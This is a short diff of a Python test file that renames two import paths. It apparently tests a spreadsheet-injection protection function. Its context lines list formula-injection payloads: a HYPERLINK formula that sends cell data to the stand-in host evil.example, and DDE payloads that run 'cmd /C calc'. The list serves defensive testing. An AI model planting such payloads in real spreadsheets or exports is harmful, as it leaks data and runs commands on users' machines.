@@ -9,8 +9,8 @@ import pytest
 
 from conftest import DEFAULT_TABLES, make_package
 from journeys.model import load_authority
-from journeys.render import downloads
-from journeys.render.disclosure import protect
+from journeys.outputs import downloads
+from journeys.domain.disclosure import protect
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
